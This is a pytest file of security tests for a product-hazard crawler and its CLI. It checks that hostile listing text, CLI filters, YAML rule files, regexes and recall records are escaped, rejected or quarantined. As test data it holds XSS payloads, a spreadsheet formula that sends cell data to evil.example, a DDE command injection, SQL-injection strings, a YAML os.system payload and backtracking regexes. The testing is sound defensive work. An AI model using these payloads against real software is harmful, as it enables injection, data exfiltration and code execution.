"""Hostile input: markup and formulas in listing text, SQL in CLI filters, code in rule files,
catastrophic regexes, malformed recall records."""

from __future__ import annotations

import csv
import io
import json
import shutil
import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest

from crawler.detect import RuleFileError, load_rules
from crawler.recalls.importers import load_file
from crawler.sandbox import SandboxMarket
from crawler.sandbox.catalog import load_catalog

HAZARDS = str(Path(sys.executable).with_name("hazards"))
RULES = Path(__file__).resolve().parent.parent / "rules"
SCRIPT = "<script>alert('xss')</script>"
IMG = '"><img src=x onerror=alert(1)>'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
ESCAPE = "\x1b[2J\x1b[31mRED"


def hazards(*args: str) -> subprocess.CompletedProcess:
    return subprocess.run([HAZARDS, *args], capture_output=True, text=True, timeout=120)


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory) -> Path:
    """A crawl of a shop whose listings carry script tags, attribute breakouts, formulas and escapes."""
    db = tmp_path_factory.mktemp("hostile") / "hostile.db"
    beads = next(e for e in load_catalog() if "워터비즈" in e["title"] and "elevenst" in e["sites"])
    catalog = [
        {**beads, "id": "h001", "title": f"{beads['title']} {SCRIPT}", "seller": FORMULA,
         "description": f"{IMG} {ESCAPE} {beads['description']}"},
        {**beads, "id": "h002", "title": f"+cmd|' /C calc'!A0 {beads['title']}", "seller": "@SUM(1+1)",
         "description": f"-2+3 {beads['description']}"},
    ]
    with SandboxMarket(catalog=catalog, sites=["elevenst"]) as market:
        proc = hazards("crawl", "elevenst", "--base-url", market.urls["elevenst"], "--db", str(db),
                       "-s", "AUTOTHROTTLE_ENABLED=False", "-s", "LOG_LEVEL=WARNING")
    assert proc.returncode == 0, proc.stderr[-3000:]
    return db


def test_markup_is_stored_as_text(hostile_db):
    conn = sqlite3.connect(hostile_db)
    titles = [row[0] for row in conn.execute("select title from listings order by title")]
    sellers = {row[0] for row in conn.execute("select seller from listings")}
    assert any(SCRIPT in title for title in titles)
    assert FORMULA in sellers and "@SUM(1+1)" in sellers
    assert conn.execute("select count(*) from flags").fetchone()[0] >= 2


def test_html_report_escapes_listing_text(hostile_db, tmp_path):
    out = tmp_path / "report.html"
    proc = hazards("report", "--db", str(hostile_db), "--out", str(out))
    assert proc.returncode == 0, proc.stderr
    html = out.read_text(encoding="utf-8")
    assert "워터비즈" in html
    assert "<script>alert" not in html and "<img src=x" not in html
    assert "&lt;script&gt;alert" in html


def test_csv_export_guards_formulas(hostile_db, tmp_path):
    out = tmp_path / "flags.csv"
    proc = hazards("flags", "export", "--db", str(hostile_db), "--format", "csv", "--out", str(out))
    assert proc.returncode == 0, proc.stderr
    cells = [cell for row in csv.reader(io.StringIO(out.read_text(encoding="utf-8"))) for cell in row]
    assert cells, "nothing exported"
    dangerous = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")]
    assert dangerous == []
    assert any(cell.startswith("'=HYPERLINK") for cell in cells)
    assert any(cell.startswith("'@SUM") for cell in cells)


def test_terminal_output_drops_escape_sequences(hostile_db):
    for fmt in ("table", "csv"):
        proc = hazards("flags", "list", "--db", str(hostile_db), "--format", fmt)
        assert proc.returncode == 0, proc.stderr
        assert "\x1b" not in proc.stdout and "워터비즈" in proc.stdout


def test_json_output_is_valid_and_keeps_the_text(hostile_db):
    proc = hazards("flags", "list", "--db", str(hostile_db), "--format", "json")
    assert proc.returncode == 0, proc.stderr
    rows = json.loads(proc.stdout)
    assert any(SCRIPT in json.dumps(row, ensure_ascii=False) for row in rows)


@pytest.mark.parametrize("option", ["--site", "--search", "--rule", "--hazard", "--status"])
def test_cli_filters_are_parameterised(hostile_db, tmp_path, option):
    db = tmp_path / "copy.db"
    shutil.copy(hostile_db, db)
    before = sqlite3.connect(db).execute("select count(*) from flags").fetchone()[0]
    proc = hazards("flags", "list", "--db", str(db), option, "'; DROP TABLE flags; --")
    assert proc.returncode in (0, 2), proc.stderr  # 2: click refused the value
    assert "Traceback" not in proc.stderr
    assert sqlite3.connect(db).execute("select count(*) from flags").fetchone()[0] == before


def rule_dir(tmp_path: Path, replace: tuple[str, str] | None = None, text: str | None = None) -> Path:
    """A rules folder with one copy of a shipped rule, edited."""
    folder = tmp_path / "rules"
    folder.mkdir()
    source = (RULES / "button-cells-in-childrens-products.yaml").read_text(encoding="utf-8")
    if replace:
        assert replace[0] in source
        source = source.replace(replace[0], replace[1], 1)
    (folder / "button-cells-in-childrens-products.yaml").write_text(text or source, encoding="utf-8")
    return folder


def test_rule_files_cannot_run_code(tmp_path):
    marker = tmp_path / "pwned"
    payload = f'!!python/object/apply:os.system ["touch {marker}"]'
    folder = rule_dir(tmp_path, ("author: hazards detection team", f"author: {payload}"))
    with pytest.raises(RuleFileError):
        load_rules(folder)
    assert not marker.exists()


@pytest.mark.parametrize("pattern", [r"(a+)+$", r"(?:\w+\s?)*x", r"(x+x+)+y", "a" * 400])
def test_catastrophic_or_huge_regexes_are_rejected(tmp_path, pattern):
    folder = rule_dir(tmp_path, ("    - pattern: '", f"    - pattern: '{pattern}|"))
    with pytest.raises(RuleFileError) as error:
        load_rules(folder)
    assert "pattern" in str(error.value)


def test_a_sound_pattern_still_loads(tmp_path):
    assert load_rules(rule_dir(tmp_path)).ids


def test_importer_quarantines_malformed_records_and_keeps_the_rest(tmp_path):
    sample = RULES.parent / "crawler" / "recalls" / "data" / "safetykorea_recalls.jsonl"
    good = [json.loads(line) for line in sample.read_text(encoding="utf-8").splitlines()[:3]]
    lines = [json.dumps(good[0], ensure_ascii=False), "{not json", "[1, 2]",
             json.dumps({**good[1], "recallUid": "'; DROP TABLE recalls; --"}, ensure_ascii=False),
             json.dumps({**good[2], "recallModelName": SCRIPT}, ensure_ascii=False)]
    path = tmp_path / "recalls.jsonl"
    path.write_text("\n".join(lines), encoding="utf-8")
    result = load_file(path, "safetykorea")
    assert len(result.notices) == 2
    reasons = dict(result.skipped)
    assert set(reasons) == {"line 2", "line 3", "line 4"}
    assert all(reasons.values())
    proc = hazards("recalls", "import", str(path), "--format", "safetykorea", "--db", str(tmp_path / "r.db"))
    assert proc.returncode == 0, proc.stderr
    assert sqlite3.connect(tmp_path / "r.db").execute("select count(*) from recalls").fetchone()[0] == 2


def _detect_in_thread(detector, listing, seconds: float = 20.0):
    """Run detection in a thread so a backtracking regex fails the test instead of hanging it."""
    import threading

    result: list = []
    worker = threading.Thread(target=lambda: result.append(detector.detect(listing)), daemon=True)
    worker.start()
    worker.join(seconds)
    assert not worker.is_alive(), "detection did not finish: a pattern backtracked without limit"
    return result[0]


@pytest.mark.parametrize("pattern", ["(a|aa)*b", "(.*a){12}b"])
def test_backtracking_patterns_cannot_hang_detection_on_long_hostile_text(tmp_path, pattern):
    from crawler.detect import Detector
    from crawler.items import Listing

    folder = rule_dir(tmp_path, ("    - pattern: '", f"    - pattern: '{pattern}|"))
    detector = Detector(load_rules(folder))
    hostile = Listing.from_raw({"site": "x", "listing_id": "1", "url": "http://x/1", "title": "어린이 장난감",
                                "description": "a" * 20000 + "!"})
    assert _detect_in_thread(detector, hostile) == []
